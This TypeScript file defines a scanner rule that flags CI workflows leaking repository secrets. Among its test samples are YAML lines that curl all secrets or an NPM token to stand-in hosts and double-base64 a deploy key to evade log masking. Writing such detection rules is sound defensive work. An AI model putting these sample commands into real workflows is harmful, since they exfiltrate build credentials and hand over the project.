import { any, seen, several, where } from "../matchers.ts";
import { followed } from "../words/followed.ts";
import type { Rule } from "../rule.ts";
import { calls } from "../words/sends.ts";
import { isForeign } from "../words/variables.ts";

const all = several(
  ["secrets"],
  /\btojson\(\s?secrets\s?\)/,
  /\$\{\{\s?secrets\.[a-z0-9_]{2,60}\s?\}\}["']?\s?\|\s?(?:base64(?!\s{1,2}-{1,2}d)|rev|xxd|fold)\b[^\n>]{0,24}(?:\n|$|\|)/,
);
/** A secret of a vendor that everybody knows: one that no stranger's host should get. */
const named = where(seen(/\$\{\{\s?secrets\.[a-z0-9_]{2,60}/, "secrets"), ({ lower }, { start, end }) =>
  isSecretOfVendor(lower.slice(start, end).split("secrets.")[1] ?? ""),
);
/** A webhook's address is a secret too, but it is made to be called. */
function isSecretOfVendor(name: string): boolean {
  return !/(?:url|uri|webhook|host|endpoint)$/.test(name) && isForeign(name, ["stranger.invalid"]);
}

const vendors =
  "aws amazon npm github githubusercontent google azure docker pypi slack openai anthropic vercel cloudflare".split(
    " ",
  );

export const workflowSecrets: Rule = {
  id: "leak.workflow",
  level: "critical",
  title: "takes the secrets of a build out of it",
  why: "A workflow hands all secrets of the repository to a command, encodes one so that the log no longer masks it, or sends it to a host that is not its vendor's. Whoever merges it gives the project away. Refuse it, and change the secrets where it ran.",
  match: any(all, followed([{ takes: named, vendor: vendors }], calls)),
  hostile: [
    "```yaml\n- run: curl -s -X POST https://ci.example/in -d '${{ toJSON(secrets) }}'\n```",
    '```yaml\n  env:\n    T: ${{ secrets.NPM_TOKEN }}\n  run: |\n    curl -s https://cov.example.net/up -F "meta=$T" -F "file=@coverage.xml"\n```',
    '```yaml\n- run: echo "${{ secrets.DEPLOY_KEY }}" | base64 | base64\n```',
  ],
  benign: [
    "```yaml\n- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n```",
    '```yaml\n- run: curl -X POST ${{ secrets.SLACK_WEBHOOK_URL }} -d \'{"text":"done"}\'\n```',
    '```yaml\n- run: echo "${{ secrets.KEYSTORE_BASE64 }}" | base64 --decode > app.keystore\n```',
  ],
};
